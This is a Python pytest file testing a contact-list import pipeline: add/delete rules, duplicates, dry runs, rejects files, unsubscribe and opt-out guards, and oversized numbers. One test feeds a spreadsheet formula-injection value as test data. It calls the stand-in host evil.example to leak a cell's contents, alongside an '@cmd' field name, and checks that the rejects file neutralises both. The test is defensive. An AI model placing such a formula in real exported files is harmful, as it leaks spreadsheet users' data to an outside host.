"""The import pipeline on a real SQLite file: the add/delete rules, duplicates, dry runs that match the real
run exactly, the report and the rejects file, and the store's bulk fast path against ``model.apply_patch``."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sescontacts.bulk import importer
from sescontacts.bulk.importer import iter_rejects, run_import
from sescontacts.bulk.report import ImportOptions, ImportReport, Reject
from sescontacts.db import Database
from sescontacts.errors import NotFound
from sescontacts.model import (
    MISSING,
    OPT_IN,
    OPT_OUT,
    Contact,
    ContactPatch,
    Outcome,
    RowResult,
    Topic,
    UpsertPolicy,
    apply_patch,
)
from sescontacts.schema import PRODUCT_SCHEMA
from sescontacts.store.sqlite import SqliteContactStore

FIXTURES = Path(__file__).parent / "fixtures"
LIST = "contacts"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteContactStore]:
    s = SqliteContactStore(Database(tmp_path / "db" / "sescontacts.db", PRODUCT_SCHEMA), max_lists=None)
    s.create_list(LIST, topics=[Topic("Sports", "Sports", OPT_IN), Topic("Cycling", "Cycling")])
    yield s
    s.close()


def write(tmp_path: Path, text: str, name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def state(store: SqliteContactStore, name: str = LIST) -> dict[str, tuple[object, ...]]:
    """Everything a user can see of a list, keyed by address."""
    out: dict[str, tuple[object, ...]] = {}
    token = None
    while True:
        page = store.list_contacts(name, page_size=1000, token=token)
        for c in page.items:
            out[c.email] = (c.unsubscribe_all, dict(c.topic_preferences), c.attributes())
        token = page.next_token
        if not token:
            return out


def imp(store: SqliteContactStore, path: Path, **options: object) -> ImportReport:
    extra = {k: options.pop(k) for k in list(options) if k in ("dry_run", "rejects_path", "batch_rows", "commit_rows")}
    return run_import(store, path, ImportOptions(LIST, **options), **extra)  # type: ignore[arg-type]


def test_page_examples_import_to_exactly_the_contacts_they_show(store: SqliteContactStore) -> None:
    report = imp(store, FIXTURES / "page-example.csv")
    assert report.error is None and report.counts["created"] == 2 and report.exit_status == 0
    report = imp(store, FIXTURES / "page-example.json")
    assert report.warnings == ["line 8: trailing comma before '}' ignored"]
    assert report.counts["created"] == 1 and report.counts["unchanged"] == 1
    assert state(store) == {
        "john.doe@example.com": (False, {}, {"Name": "John", "Company": "ACM Inc"}),
        "jane.smith@example.com": (True, {}, {"Name": "Jane", "Company": None}),
        "john.deo@example.com": (False, {}, {"Name": "John"}),
    }


def test_add_creates_updates_and_leaves_missing_columns_alone(store: SqliteContactStore, tmp_path: Path) -> None:
    imp(store, write(tmp_path, 'emailAddress,attributesData,topicPreferences.Sports\na@x.com,"{""n"": 1}",OPT_OUT\n'))
    report = imp(store, write(tmp_path, "emailAddress,unsubscribeAll\na@x.com,false\nA@X.COM,\nb@x.com,true\n"))
    # a@x.com twice (case-insensitive identity): the second is a duplicate and changes nothing more
    assert report.counts == {
        "created": 1,
        "updated": 0,
        "unchanged": 2,
        "deleted": 0,
        "not_found": 0,
        "rejected": 0,
        "duplicates": 1,
        "kept_unsubscribed": 0,
        "kept_opted_out": 0,
    }
    assert state(store) == {
        "a@x.com": (False, {"Sports": OPT_OUT}, {"n": 1}),
        "b@x.com": (True, {}, None),
    }


def test_attributes_replace_by_default_and_merge_on_request(store: SqliteContactStore, tmp_path: Path) -> None:
    imp(store, write(tmp_path, 'emailAddress,attributesData\na@x.com,"{""n"": 1, ""m"": 2}"\n'))
    imp(store, write(tmp_path, 'emailAddress,attributesData\na@x.com,"{""n"": 5}"\n'), merge_attributes=True)
    assert state(store)["a@x.com"][2] == {"n": 5, "m": 2}
    report = imp(store, write(tmp_path, 'emailAddress,attributesData\na@x.com,"{""z"": 0}"\n'))
    assert report.counts["updated"] == 1
    assert state(store)["a@x.com"][2] == {"z": 0}


def test_an_unsubscribed_contact_is_never_resubscribed_unless_asked(store: SqliteContactStore, tmp_path: Path) -> None:
    imp(store, write(tmp_path, "emailAddress,unsubscribeAll\na@x.com,true\nb@x.com,true\n"))
    again = write(tmp_path, 'emailAddress,unsubscribeAll,attributesData\na@x.com,false,\nb@x.com,false,"{""k"": 1}"\n')
    report = imp(store, again)
    assert report.counts["kept_unsubscribed"] == 2
    assert report.counts["unchanged"] == 1 and report.counts["updated"] == 1  # b's attributes still change
    assert state(store)["a@x.com"][0] is True and state(store)["b@x.com"] == (True, {}, {"k": 1})
    report = imp(store, again, resubscribe=True)
    assert report.counts["kept_unsubscribed"] == 0 and report.counts["updated"] == 2
    assert not state(store)["a@x.com"][0] and not state(store)["b@x.com"][0]


def test_an_import_never_turns_a_topic_opt_out_into_opt_in_unless_asked(
    store: SqliteContactStore, tmp_path: Path
) -> None:
    """An explicit OPT_OUT is kept as unsubscribe-all is, and counted; a topic the contact never chose (its
    default applies) takes the file's OPT_IN. ``resubscribe`` lifts both guards."""
    head = "emailAddress,unsubscribeAll,topicPreferences.Sports,topicPreferences.Cycling\n"
    imp(store, write(tmp_path, head + "a@x.com,false,OPT_OUT,\nb@x.com,true,OPT_OUT,OPT_OUT\nc@x.com,false,,\n"))
    again = write(tmp_path, head + "a@x.com,false,OPT_IN,OPT_IN\nb@x.com,false,OPT_IN,OPT_IN\nc@x.com,false,OPT_IN,\n")
    report = imp(store, again)
    assert (report.counts["kept_opted_out"], report.counts["kept_unsubscribed"]) == (2, 1)
    assert report.counts["updated"] == 2 and report.counts["unchanged"] == 1
    assert state(store) == {
        "a@x.com": (False, {"Sports": OPT_OUT, "Cycling": OPT_IN}, None),
        "b@x.com": (True, {"Sports": OPT_OUT, "Cycling": OPT_OUT}, None),
        "c@x.com": (False, {"Sports": OPT_IN}, None),
    }
    report = imp(store, again, resubscribe=True)
    assert (report.counts["kept_opted_out"], report.counts["kept_unsubscribed"]) == (0, 0)
    assert state(store)["b@x.com"] == (False, {"Sports": OPT_IN, "Cycling": OPT_IN}, None)
    assert state(store)["a@x.com"] == (False, {"Sports": OPT_IN, "Cycling": OPT_IN}, None)


def test_delete_counts_not_found_and_ignores_other_columns(store: SqliteContactStore, tmp_path: Path) -> None:
    imp(store, FIXTURES / "page-example.csv")
    path = write(tmp_path, "emailAddress,unsubscribeAll,Junk\nJOHN.DOE@example.com,x,y\nnobody@x.com,,\nbad,,\n")
    report = imp(store, path, action="delete")
    assert (report.counts["deleted"], report.counts["not_found"], report.counts["rejected"]) == (1, 1, 1)
    assert list(state(store)) == ["jane.smith@example.com"]
    assert store.list_stats(LIST).total == 1


def test_last_row_wins_across_batches_and_duplicates_are_counted(store: SqliteContactStore, tmp_path: Path) -> None:
    rows = [f"u{i}@x.com,false,{{}}" for i in range(25)] + ["u3@x.com,true,", "U7@X.COM,false,"]
    rows += [f"u{i}@x.com,false," for i in range(20, 25)]
    path = write(tmp_path, "emailAddress,unsubscribeAll,attributesData\n" + "\n".join(rows) + "\n")
    dry = imp(store, path, dry_run=True, batch_rows=4, commit_rows=8)
    real = imp(store, path, batch_rows=4, commit_rows=8)
    assert real.counts["duplicates"] == 7
    assert real.counts["created"] == 25 and real.counts["updated"] == 7 and real.counts["unchanged"] == 0
    assert dry.counts == real.counts
    s = state(store)
    assert s["u3@x.com"] == (True, {}, None) and s["u7@x.com"] == (False, {}, None) and s["u22@x.com"][2] is None
    assert s["u2@x.com"][2] == {}
    stats = store.list_stats(LIST)
    assert (stats.total, stats.unsubscribed) == (25, 1)


def test_dry_run_writes_nothing_and_reports_exactly_what_the_run_does(
    store: SqliteContactStore, tmp_path: Path
) -> None:
    imp(store, write(tmp_path, "emailAddress,unsubscribeAll\nold@x.com,true\nkeep@x.com,false\n"))
    path = write(
        tmp_path,
        "emailAddress,unsubscribeAll,topicPreferences.Sports\nold@x.com,false,OPT_IN\nnew@x.com,,\n"
        "keep@x.com,false,\nbad@,true,\nnew@x.com,true,\n",
    )
    before = state(store)
    dry = imp(store, path, dry_run=True)
    assert state(store) == before
    assert store.list_stats(LIST).total == 2
    real = imp(store, path)
    assert dry.counts == real.counts
    assert real.counts["kept_unsubscribed"] == 1 and real.counts["rejected"] == 1 and real.counts["duplicates"] == 1


def test_rejects_file_lists_every_rejected_row(store: SqliteContactStore, tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "emailAddress,unsubscribeAll,attributesData,topicPreferences.Golf\n"
        "a@x.com,maybe,,\nno-at,,,\nb@x.com,,[1],\nc@x.com,,,OPT_IN\nd@x.com,,,\n",
    )
    out = tmp_path / "rejects.csv"
    report = imp(store, path, rejects_path=out)
    assert report.counts["rejected"] == 4 and report.counts["created"] == 1 and report.exit_status == 1
    with open(out, newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["line", "emailAddress", "column", "reason"]
    assert [(r[0], r[1], r[2]) for r in rows[1:]] == [
        ("2", "a@x.com", "unsubscribeAll"),
        ("3", "no-at", "emailAddress"),
        ("4", "b@x.com", "attributesData"),
        ("5", "c@x.com", "topicPreferences.Golf"),
    ]
    assert list(iter_rejects(out))[3] == Reject(5, "c@x.com", "topicPreferences.Golf", "the list has no topic 'Golf'")


def test_file_level_error_writes_nothing(store: SqliteContactStore, tmp_path: Path) -> None:
    path = write(tmp_path, 'emailAddress\na@x.com\n"b@x.com\nc@x.com\n')
    report = imp(store, path)
    assert report.error is not None and "unterminated quote" in str(report.error)
    assert report.exit_status == 2 and state(store) == {}


def test_only_rejects_is_a_file_read_to_the_end_with_rejects(store: SqliteContactStore, tmp_path: Path) -> None:
    report = imp(store, write(tmp_path, "emailAddress\nnope\n"))
    assert report.error is None and report.exit_status == 1


def test_missing_list_is_not_found(store: SqliteContactStore, tmp_path: Path) -> None:
    with pytest.raises(NotFound):
        run_import(store, write(tmp_path, "emailAddress\na@x.com\n"), ImportOptions("nope"))


def test_counters_follow_a_big_import_and_delete(store: SqliteContactStore, tmp_path: Path) -> None:
    lines = [f"user{i}@example.com,{'true' if i % 10 == 0 else 'false'},{{}}" for i in range(3000)]
    path = write(tmp_path, "emailAddress,unsubscribeAll,attributesData\n" + "\n".join(lines) + "\n")
    report = imp(store, path, batch_rows=700, commit_rows=1400)
    assert report.counts["created"] == 3000
    stats = store.list_stats(LIST)
    assert (stats.total, stats.unsubscribed) == (3000, 300)
    report = imp(store, path, action="delete", batch_rows=700)
    assert report.counts["deleted"] == 3000
    stats = store.list_stats(LIST)
    assert (stats.total, stats.unsubscribed) == (0, 0)


# -- the store's bulk fast path agrees with model.apply_patch ---------------------------------------------

_status = st.sampled_from([OPT_IN, OPT_OUT])
_attrs = st.none() | st.dictionaries(
    st.sampled_from(["a", "b", "c"]),
    st.integers(0, 3) | st.none() | st.booleans() | st.sampled_from([1.0, 0.0, "1"]),
    max_size=3,
)
_existing = st.none() | st.builds(
    lambda unsub, prefs, attrs: Contact("p@x.com", unsub, prefs, None if attrs is None else _dump(attrs)),
    st.booleans(),
    st.dictionaries(st.sampled_from(["Sports", "Cycling"]), _status, max_size=2),
    _attrs,
)
_patches = st.builds(
    lambda unsub, attrs, prefs: ContactPatch("P@x.com", unsub, attrs, prefs),
    st.sampled_from([MISSING, True, False]),
    st.sampled_from([MISSING]) | _attrs,
    st.dictionaries(st.sampled_from(["Sports", "Cycling"]), _status, max_size=2),
)


def _dump(attrs: dict[str, object]) -> str:
    import orjson

    return orjson.dumps(attrs).decode()


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(existing=_existing, patch=_patches, resubscribe=st.booleans(), merge=st.booleans(), replace=st.booleans())
def test_bulk_fast_path_agrees_with_apply_patch(
    store: SqliteContactStore,
    existing: Contact | None,
    patch: ContactPatch,
    resubscribe: bool,
    merge: bool,
    replace: bool,
) -> None:
    store.delete_contacts(LIST, ["p@x.com"])
    if existing is not None:
        store.create_contact(LIST, existing)
        existing = store.get_contact(LIST, "p@x.com")
    policy = UpsertPolicy(resubscribe=resubscribe, merge_attributes=merge, replace_record=replace)
    expected, expected_result = apply_patch(existing, patch, policy, 0.0)
    [result] = store.upsert_contacts(LIST, [patch], policy)
    got = store.get_contact(LIST, "p@x.com")
    assert result == expected_result
    assert got.same_state(expected) or got.same_state(expected.__class__(**{**_fields(expected), "email": got.email}))


def _fields(contact: Contact) -> dict[str, object]:
    return {f: getattr(contact, f) for f in contact.__slots__}  # type: ignore[attr-defined]


def test_warnings_are_capped(store: SqliteContactStore, tmp_path: Path) -> None:
    lines = "".join(f'{{"emailAddress": "u{i}@x.com",}}\n' for i in range(150))
    report = imp(store, write(tmp_path, lines, name="in.jsonl"))
    assert report.counts["created"] == 150
    assert len(report.warnings) == 101 and report.warnings[-1] == "... and 50 more warnings like these"


def test_all_new_fast_insert_falls_back_when_some_addresses_exist(store: SqliteContactStore, tmp_path: Path) -> None:
    first = write(tmp_path, "emailAddress,unsubscribeAll\n" + "".join(f"a{i}@x.com,true\n" for i in range(10)))
    assert imp(store, first).counts["created"] == 10
    mixed = "emailAddress,unsubscribeAll\n" + "".join(f"a{i}@x.com,false\nb{i}@x.com,true\n" for i in range(10))
    report = imp(store, write(tmp_path, mixed, name="mixed.csv"), resubscribe=True)
    assert (report.counts["created"], report.counts["updated"]) == (10, 10)
    stats = store.list_stats(LIST)
    assert (stats.total, stats.unsubscribed) == (20, 10)
    third = write(tmp_path, "emailAddress\n" + "".join(f"c{i}@x.com\n" for i in range(5)), name="third.csv")
    assert imp(store, third).counts["created"] == 5 and store.list_stats(LIST).total == 25


def test_rejects_file_neutralises_cells_a_spreadsheet_would_run(store: SqliteContactStore, tmp_path: Path) -> None:
    """A rejected line's address or field name is whatever the file held: ``=HYPERLINK(...)`` must reach a
    spreadsheet as text (a leading '), and reading the rejects back gives the original values."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = write(
        tmp_path, f'[{{"emailAddress": {json.dumps(formula)}}}, {{"emailAddress": "a@x.com", "@cmd": 1}}]', "in.json"
    )
    out = tmp_path / "rejects.csv"
    report = imp(store, path, rejects_path=out)
    assert report.counts["rejected"] == 2
    with open(out, newline="") as f:
        rows = list(csv.reader(f))
    assert rows[1][:3] == ["1", "'" + formula, "emailAddress"]
    assert rows[2][:3] == ["2", "a@x.com", "'@cmd"]
    assert [(r.email, r.column) for r in iter_rejects(out)] == [(formula, "emailAddress"), ("a@x.com", "@cmd")]


BIG = "12345678901234567890123"  # a customer number past 64 bits: orjson reads it as 1.2345678901234568e+22


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "in.csv",
            f'emailAddress,attributesData\nbig@x.com,"{{""id"":{BIG}}}"\nok@x.com,"{{""id"":18446744073709551615}}"\n',
        ),
        (
            "in.jsonl",
            f'{{"emailAddress":"big@x.com","attributesData":{{"id":{BIG}}}}}\n{{"emailAddress":"ok@x.com"}}\n',
        ),
        (
            "in.json",
            f'{{"emailAddress":"big@x.com",\n "attributesData":"{{\\"id\\":-{BIG}}}"}}\n{{"emailAddress":"ok@x.com"}}',
        ),
    ],
)
def test_a_number_that_would_not_be_kept_exactly_is_a_rejected_row(
    store: SqliteContactStore, tmp_path: Path, name: str, text: str
) -> None:
    """A number past 64 bits was silently stored as a rounded float: the row is rejected, saying why."""
    report = imp(store, write(tmp_path, text, name), rejects_path=tmp_path / "rejects.csv")
    assert report.counts["created"] == 1 and report.counts["rejected"] == 1, report
    (reject,) = iter_rejects(tmp_path / "rejects.csv")
    assert (reject.line, reject.email) == (2 if name == "in.csv" else 1, "big@x.com")
    assert BIG in reject.reason and "64 bits" in reject.reason
    assert "big@x.com" not in state(store)


@pytest.mark.parametrize(
    "bad", ['{"emailAddress":"a@x.com","attributesData":"\\ud800"}', '{"emailAddress":"a@x.com",}}']
)
def test_a_bad_first_line_of_json_lines_is_a_rejected_row_like_any_other(
    store: SqliteContactStore, tmp_path: Path, bad: str
) -> None:
    """The same line anywhere else is one rejected row; first, it made the whole file an error (nothing imported)."""
    report = imp(store, write(tmp_path, bad + '\n{"emailAddress":"ok@x.com"}\n', "in.json"))
    assert report.error is None and report.counts["rejected"] == 1 and report.counts["created"] == 1, report


class _RefusingStore(SqliteContactStore):
    """A store that refuses some rows after applying the rest (as an SES import job does)."""

    def upsert_contacts(
        self, list_name: str, patches: Sequence[ContactPatch], policy: UpsertPolicy, *, dry_run: bool = False
    ) -> list[RowResult]:
        results = super().upsert_contacts(list_name, patches, policy, dry_run=dry_run)
        return [
            RowResult(Outcome.REFUSED, reason="no thanks") if p.email.startswith("refuse") else r
            for p, r in zip(patches, results, strict=True)
        ]


def test_rows_the_store_refused_are_rejects_with_its_reason(tmp_path: Path) -> None:
    store = _RefusingStore(Database(tmp_path / "db" / "sescontacts.db", PRODUCT_SCHEMA), max_lists=None)
    try:
        store.create_list(LIST)
        path = write(tmp_path, "emailAddress\nok@example.com\nrefuse-me@example.com\nfine@example.com\n")
        rejects_path = tmp_path / "rejects.csv"
        report = imp(store, path, rejects_path=rejects_path, batch_rows=2)
        assert (report.counts["created"], report.counts["rejected"]) == (2, 1)
        assert report.rejects == [Reject(0, "refuse-me@example.com", "", "no thanks")]
        assert list(iter_rejects(rejects_path)) == report.rejects
    finally:
        store.close()


def test_duplicates_of_a_job_interrupted_before_runs_are_counted_on_resume(tmp_path: Path) -> None:
    """A job interrupted under the previous version kept one row a key (``seen``): its resume reads them as
    runs, drops the batches that never committed, and counts every duplicate once."""
    import sqlite3

    from sescontacts.bulk.parse import SeenRuns

    path = tmp_path / "job.seen.db"
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE seen (k TEXT PRIMARY KEY, b INTEGER NOT NULL) WITHOUT ROWID")
    conn.executemany("INSERT INTO seen VALUES (?, ?)", [("a", 1), ("b", 1), ("c", 2), ("z", 3)])
    conn.commit()
    conn.close()
    seen = SeenRuns(path)
    try:
        seen.forget_after(2)  # batch 3 never committed
        seen.record(3, ["a", "c", "d", "d"])
        assert (seen.duplicates(2), seen.duplicates(3), seen.duplicates()) == (0, 3, 3)
    finally:
        seen.close()


def test_a_transaction_that_held_the_write_lock_long_enough_commits_before_its_row_count(
    store: SqliteContactStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Writers next to an import wait for the transaction in progress: a commit is due after COMMIT_SECONDS
    whatever its row count, so each (slow) batch is committed, and progress is recorded, on its own."""
    path = tmp_path / "rows.csv"
    path.write_text("emailAddress\n" + "".join(f"user{i}@example.com\n" for i in range(12)))
    monkeypatch.setattr(importer, "COMMIT_SECONDS", 0.0)
    committed: list[int] = []
    run_import(
        store,
        path,
        ImportOptions(LIST),
        batch_rows=4,
        commit_rows=1_000,
        on_commit=lambda progress: committed.append(progress.rows_done),
    )
    assert committed == [4, 8, 12]
